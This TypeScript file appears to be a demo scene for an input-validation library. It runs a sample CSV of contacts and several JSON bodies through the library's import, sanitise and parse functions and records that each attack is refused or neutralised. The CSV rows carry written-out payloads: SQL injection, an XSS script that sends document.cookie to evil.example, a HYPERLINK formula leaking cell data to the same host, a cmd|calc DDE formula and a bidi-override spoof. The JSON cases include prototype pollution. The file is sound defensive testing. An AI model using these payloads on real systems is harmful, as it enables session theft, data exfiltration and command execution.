// Demo scene for @portcullis/boundary: a partner uploads a CSV of contacts carrying SQL-injection,
// XSS, spreadsheet-formula and bidi-override payloads. Each row is refused with a numbered error
// or imported clean; the good rows are shown in HTML (encoded) and exported back to CSV (formulas
// neutralised). Then hostile JSON bodies meet the JSON limits.
import {
  type CsvRowError,
  exportCsv,
  importCsv,
  isBoundaryError,
  parseJson,
  sanitize,
} from '@portcullis/boundary';
import { z } from 'zod';
import type { Scene } from '../scene.ts';

const STOPPED_BY = '@portcullis/boundary';

const Contact = z.object({
  account: z.string().regex(/^[a-z0-9_]{1,32}$/),
  email: z.email(),
  name: z.string().min(1).max(80),
  note: z.string().max(200),
});

const upload = [
  'account,email,name,note',
  'acme_01,ada@example.com,Ada Lovelace,first customer',
  "acme_02' OR '1'='1,trudy@example.com,Trudy,sql injection in a key column",
  'acme_03,mallory@example.com,"<script>fetch(\'//evil.example/\'+document.cookie)</script>",xss in a name',
  'acme_04,eve@example.com,Eve,"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"',
  'acme_05,bob@example.com,Bob,"@SUM(1+1)*cmd|\' /C calc\'!A0"',
  'acme_06,carol@example.com,"Carol\u202Egnp.exe",bidi override in a name',
].join('\n');

const where = (e: CsvRowError): string =>
  `row ${e.row} ${e.code} at ${e.issues.map((i) => i.path.join('.')).join(', ')}`;

export const boundaryScene: Scene = {
  name: 'boundary',
  title: '@portcullis/boundary: a hostile CSV import and hostile JSON',
  async run({ say, record }) {
    const { rows, errors } = await importCsv(upload, Contact);
    say(`CSV upload of 6 contacts: ${rows.length} imported, ${errors.length} refused`);
    const sql = errors.find((e) => e.row === 2);
    record({
      scenario: 'SQL injection in a CSV import',
      happened: sql ? `refused: ${where(sql)}` : 'imported',
      stoppedBy: `${STOPPED_BY} importCsv + schema`,
      held: sql?.code === 'ERR_BOUNDARY_SCHEMA_MISMATCH',
    });
    const xss = rows.find((r) => r.account === 'acme_03');
    const shown = `<td>${sanitize.html(xss?.name ?? '')}</td>`;
    say(`the script-bearing name shown in HTML: ${shown}`);
    record({
      scenario: 'XSS in a CSV import',
      happened: `kept as text, rendered encoded: ${shown.slice(0, 34)}…`,
      stoppedBy: `${STOPPED_BY} sanitize.html`,
      held: xss !== undefined && !shown.includes('<script'),
    });
    const formulas = errors.filter((e) => e.code === 'ERR_BOUNDARY_CSV_FORMULA');
    record({
      scenario: 'spreadsheet formulas in a CSV import',
      happened: `refused: ${formulas.map(where).join('; ')}`,
      stoppedBy: `${STOPPED_BY} importCsv`,
      held: formulas.length === 2,
    });
    const carol = rows.find((r) => r.account === 'acme_06')?.name ?? '';
    record({
      scenario: 'bidi override in a CSV import',
      happened: `stripped: ${JSON.stringify(carol)}`,
      stoppedBy: `${STOPPED_BY} sanitize.text`,
      held: !carol.includes('\u202E'),
    });
    const exported = exportCsv([
      { account: 'ops', email: 'ops@example.com', name: '=1+1', note: '-2+3' },
    ]);
    const line = exported.trim().split('\n').at(-1) ?? '';
    record({
      scenario: 'formula written into an exported CSV',
      happened: `neutralised: ${line}`,
      stoppedBy: `${STOPPED_BY} exportCsv`,
      held: line.includes("'=1+1") && line.includes("'-2+3"),
    });

    for (const [scenario, body, code] of [
      [
        'prototype pollution in JSON',
        '{"__proto__":{"isAdmin":true}}',
        'ERR_BOUNDARY_FORBIDDEN_KEY',
      ],
      [
        'duplicate JSON key (parser differential)',
        '{"amount":1,"amount":1000000}',
        'ERR_BOUNDARY_DUPLICATE_KEY',
      ],
      [
        'JSON nested 100 000 levels deep',
        `${'['.repeat(100_000)}${']'.repeat(100_000)}`,
        'ERR_BOUNDARY_TOO_DEEP',
      ],
      [
        'a JSON id that JSON.parse would round',
        '{"id":9007199254740993}',
        'ERR_BOUNDARY_UNSAFE_INTEGER',
      ],
    ] as const) {
      let happened = 'accepted';
      let held = false;
      try {
        parseJson(body);
      } catch (error) {
        if (!isBoundaryError(error)) throw error;
        happened = `refused: ${error.status} ${error.code}`;
        held = error.code === code;
      }
      record({ scenario, happened, stoppedBy: `${STOPPED_BY} parseJson`, held });
    }
  },
};
